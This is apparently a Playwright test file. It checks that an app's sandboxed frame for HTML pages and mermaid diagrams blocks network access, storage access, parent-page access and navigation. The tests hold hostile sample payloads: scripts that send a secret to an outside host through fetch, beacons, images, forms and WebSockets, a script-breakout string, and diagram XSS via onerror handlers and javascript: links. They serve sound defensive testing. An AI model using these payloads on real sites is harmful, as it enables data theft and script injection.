// Pages and small apps in an answer run in an isolated frame: no network, no storage, no access to the page.
import type { Page } from 'playwright/test';
import { problemsIn } from './support/axe.ts';
import { startFaulty, type FaultyServer } from './support/model.ts';
import { expect, testOnOnePage as test } from './support/test.ts';
import { VECTORS } from './support/vectors.ts';

// The frame's policy reports in the console what it blocked.
test.use({ expectedErrors: /./ });

let foreign: FaultyServer;
const seen: string[] = [];

test.beforeEach(async () => {
  seen.length = 0;
  foreign = await startFaulty((response, path) => {
    seen.push(path);
    response.end('x');
  });
});
test.afterEach(() => foreign.stop());

async function open(app: Page, text: string): Promise<void> {
  const id = await app.evaluate(
    async (body) => (await window.perilune.knowledge.add([new File([body], `${Math.random()}.md`)])).ids[0],
    text,
  );
  await app.goto(`./#/library/${id}`);
}

const block = (source: string, language = 'html'): string => `\`\`\`${language}\n${source}\n\`\`\`\n`;

test('runs a small app next to its source, in versions, until closed', async ({ app }) => {
  const counter = (step: number): string =>
    `<title>Counter ${step}</title><button onclick="this.textContent = Number(this.textContent) + ${step}">0</button>`;
  await open(app, `# Apps\n\n${block(counter(1))}\nAnd:\n\n${block(counter(5))}`);
  const runs = app.getByRole('button', { name: 'Run this page' });
  await expect(runs).toHaveCount(2);
  await runs.last().click();
  const button = app.frameLocator('iframe[title="Counter 5"]').getByRole('button');
  await button.click();
  await expect(button).toHaveText('5');
  await app.getByRole('button', { name: 'Earlier version' }).click();
  const earlier = app.frameLocator('iframe[title="Counter 1"]').getByRole('button');
  await earlier.click();
  await expect(earlier).toHaveText('1');
  await app.getByRole('button', { name: 'Restart' }).click();
  await expect(earlier).toHaveText('0');
  const saved = app.waitForEvent('download');
  await app.getByRole('button', { name: 'Save', exact: true }).click();
  expect((await saved).suggestedFilename()).toBe('Counter 1.html');
  await app.getByRole('button', { name: 'Close the canvas' }).click();
  await expect(app.locator('iframe[title^="Counter"]')).toHaveCount(0);
});

test('reaches no network, no storage and no surrounding page, whatever it tries', async ({ app }) => {
  const url = foreign.baseUrl.replace('/v1', '');
  const attempts = `<p id="told">waiting</p><script>
    const U = '${url}';
    const opened = [];
    const attempt = async (name, work) => { try { await work(); opened.push(name); } catch {} };
    const wait = (promise) => Promise.race([promise, new Promise((_, no) => setTimeout(no, 800))]);
    (async () => {
      await attempt('fetch', () => fetch(U + '/fetch'));
      await attempt('opaque fetch', () => fetch(U + '/opaque', { mode: 'no-cors' }));
      await attempt('own origin', () => fetch(new URL('/index.html', location.href)));
      await attempt('socket', () => wait(new Promise((yes, no) => { const s = new WebSocket(U.replace('http', 'ws')); s.onopen = yes; s.onerror = no; })));
      await attempt('events', () => wait(new Promise((yes, no) => { const s = new EventSource(U + '/events'); s.onopen = yes; s.onerror = no; })));
      await attempt('worker', () => wait(new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = yes; w.onerror = no; })));
      await attempt('call', () => new RTCPeerConnection());
      await attempt('page', () => parent.document.title);
      await attempt('page api', () => parent.perilune.tools);
      await attempt('window', () => { if (!open(U + '/window')) throw 0; });
      await attempt('cookies', () => document.cookie);
      await attempt('local storage', () => localStorage.length);
      await attempt('database', () => wait(new Promise((yes, no) => { const r = indexedDB.open('x'); r.onsuccess = yes; r.onerror = no; })));
      await attempt('caches', () => caches.keys());
      await attempt('files', () => navigator.storage.getDirectory());
      await attempt('eval', () => (0, eval)('1'));
      navigator.sendBeacon?.(U + '/beacon', 'x');
      document.getElementById('told').textContent = 'opened: ' + opened.join(', ');
    })();
  </script>`;
  const still = VECTORS.filter(
    (vector) => !vector.includes('http-equiv="refresh"') && !vector.includes('<noscript>'),
  );
  await open(
    app,
    `# Hostile\n\n${block(attempts)}\nAnd:\n\n${block(still.join('\n').replaceAll('```', '').replaceAll('\n\n', '\n').replaceAll('U/', `${url}/`))}`,
  );
  await app.getByRole('button', { name: 'Run this page' }).first().click();
  await expect(app.frameLocator('.canvas iframe').locator('#told')).toHaveText('opened: ', {
    timeout: 15_000,
  });
  await app.getByRole('button', { name: 'Later version' }).click();
  await expect(app.frameLocator('.canvas iframe').getByText('styled').first()).toBeAttached();
  await app.waitForTimeout(1000);
  expect(seen).toEqual([]);
  expect(await app.evaluate(() => (window as unknown as { pwned?: number }).pwned)).toBeUndefined();
});

test('a page that navigates elsewhere is stopped and reported', async ({ app, browserName }) => {
  const url = foreign.baseUrl.replace('/v1', '');
  for (const delay of [300, 0, undefined]) {
    const leave = `location = '${url}/?secret'`;
    const script = delay === undefined ? leave : `setTimeout(() => (${leave}), ${delay})`;
    await open(app, `# Leaves\n\n${block(`<script>${script}</script>`)}`);
    await app.getByRole('button', { name: 'Run this page' }).click();
    if (browserName === 'firefox') {
      // The policy blocks the page silently, and the content stays.
      await app.waitForTimeout(1500);
    } else {
      await expect(app.getByRole('alert'), `${delay}`).toContainText('tried to open another address');
      await expect(app.locator('.canvas iframe')).toHaveCount(0);
    }
    expect(seen).toEqual([]);
  }
});

/** Installs a tool, and saves the page of a document as the view of its results. */
async function saveView(app: Page, name: string, result: string, source: string): Promise<void> {
  await app.evaluate(
    async ([tool, value]) => {
      const lua = `tool = { name = "${tool}", version = "1.0.0", description = "Measures" }
function tool.execute() return ${value} end`;
      const { error } = await window.perilune.tools.install(lua, { policy: 'allow' });
      if (error) throw new Error(error.message);
    },
    [name, result],
  );
  await open(app, `# View\n\n${block(source)}`);
  await app.getByRole('button', { name: 'Run this page' }).click();
  await app.getByRole('button', { name: 'Save as view…' }).click();
  const dialog = app.getByRole('dialog', { name: 'Save as a tool’s view' });
  await dialog.getByLabel('Tool').selectOption(name);
  expect(await problemsIn(app, 'dialog')).toEqual([]);
  await dialog.getByRole('button', { name: 'Save view' }).click();
  await expect(app.getByText(`Results of ${name} now have this view.`)).toBeVisible();
  await app.goto(`./#/studio/${name}`);
  await app.getByRole('button', { name: 'Run', exact: true }).click();
}

test('a page saved as a tool’s view shows its results, says where it came from, and can be removed', async ({
  app,
}) => {
  const gauge =
    '<title>Gauge</title><p id="height"></p><script>document.querySelector("p").textContent = result.height + " m"</script>';
  await saveView(app, 'tide', '{ height = 4.2 }', gauge);
  const view = app.frameLocator('iframe[title="Gauge"]');
  await expect(view.locator('#height')).toHaveText('4.2 m');
  await expect(app.getByText('Saved from a document.')).toBeVisible();
  // The exact result is one click away.
  await app.getByRole('group', { name: 'View' }).getByRole('button', { name: 'Text' }).click();
  await expect(app.getByLabel('Result', { exact: true })).toContainText('"height": 4.2');
  await app.getByRole('tab', { name: 'Settings' }).click();
  await app.getByRole('button', { name: 'Remove view' }).click();
  await expect(app.getByRole('heading', { name: 'Own view' })).toHaveCount(0);
  await app.getByRole('button', { name: 'Undo' }).click();
  await expect(app.getByRole('heading', { name: 'Own view' })).toBeVisible();
  expect(
    await app.evaluate(async () => {
      await window.perilune.tools.configure('tide', {
        page: { source: '<p>claimed', language: 'html', from: 'answer' },
      });
      return (await window.perilune.tools.list()).length > 0;
    }),
  ).toBe(true);
  await expect(app.getByText('Set by a script on this page.').first()).toBeVisible();
});

test('keeps a hostile view from sending the result', async ({ app }) => {
  const url = foreign.baseUrl.replace('/v1', '');
  const still = VECTORS.filter(
    (vector) => !vector.includes('http-equiv="refresh"') && !vector.includes('<noscript>'),
  );
  const thief = `<title>Thief</title><p id="told"></p><script>
    const U = '${url}/?' + encodeURIComponent(result.secret);
    fetch(U).catch(() => 0);
    navigator.sendBeacon?.(U, result.secret);
    new Image().src = U;
    try { new WebSocket(U.replace('http', 'ws')); } catch {}
    try { open(U); } catch {}
    document.body.insertAdjacentHTML('beforeend', '<form action="' + U + '"><button>x</button></form><link rel="prefetch" href="' + U + '"><a href="' + U + '" id="a">a</a>');
    try { document.querySelector('form').submit(); } catch {}
    try { parent.pwned = result.secret; } catch {}
    document.getElementById('told').textContent = 'has ' + result.secret;
  </script>${still.join('\n').replaceAll('```', '').replaceAll('\n\n', '\n').replaceAll('U/', `${url}/`)}`;
  await saveView(app, 'teller', '{ secret = "</script><script>parent.pwned=1</script>canary" }', thief);
  await expect(app.frameLocator('iframe[title="Thief"]').locator('#told')).toContainText('canary');
  await app.waitForTimeout(1000);
  expect(seen).toEqual([]);
  expect(await app.evaluate(() => (window as unknown as { pwned?: unknown }).pwned)).toBeUndefined();
});

test('draws diagrams as images, keeps their source, and explains why one can’t be drawn', async ({ app }) => {
  await open(
    app,
    `# D\n\n${block('graph TD\n  A[Ask] --> B{Found?}\n  B -->|yes| C[Answer]', 'mermaid')}\nWrong:\n\n${block('graph TD\n  A[Ask --> ', 'mermaid')}`,
  );
  const picture = app.getByRole('img', { name: 'Diagram' });
  await expect(picture).toBeVisible({ timeout: 60_000 });
  await expect.poll(() => picture.evaluate((img: HTMLImageElement) => img.naturalWidth)).toBeGreaterThan(50);
  // A change of theme while diagrams are drawn leaves none of them undrawn.
  for (const colorScheme of ['dark', 'light', 'dark'] as const) await app.emulateMedia({ colorScheme });
  await expect(app.locator('.diagram[aria-busy]')).toHaveCount(0);
  await expect(app.locator('.diagram img')).toHaveCount(1);
  const source = app.locator('pre[data-language="mermaid"]').first();
  await expect(source).toBeHidden();
  await app.getByRole('button', { name: 'Source of the diagram' }).click();
  await expect(source).toBeVisible();
  await expect(app.getByText(/This diagram can’t be drawn: .+\. Below is its source\./)).toBeVisible();
  await expect(app.locator('pre[data-language="mermaid"]').last()).toBeVisible();
});

test('a hostile diagram fetches and runs nothing', async ({ app }) => {
  const url = foreign.baseUrl.replace('/v1', '');
  await open(
    app,
    `# X\n\n${block(
      `%%{init: {"securityLevel": "loose", "themeCSS": "* { background: url(${url}/css) }", "htmlLabels": true}}%%\ngraph TD\n  A["<img src='${url}/img' onerror='parent.pwned=1'>"] --> B[b]\n  click B href "javascript:parent.pwned=2"\n  style B fill:url(${url}/fill)`,
      'mermaid',
    )}\n${block(`graph TD\n  A["<script>parent.pwned=3</script><image href='${url}/svg'/>"] --> C`, 'mermaid')}`,
  );
  await expect(app.locator('.diagram :is(img, p)').last()).toBeVisible({ timeout: 60_000 });
  await app.waitForTimeout(800);
  expect(seen).toEqual([]);
  expect(await app.evaluate(() => (window as unknown as { pwned?: number }).pwned)).toBeUndefined();
});
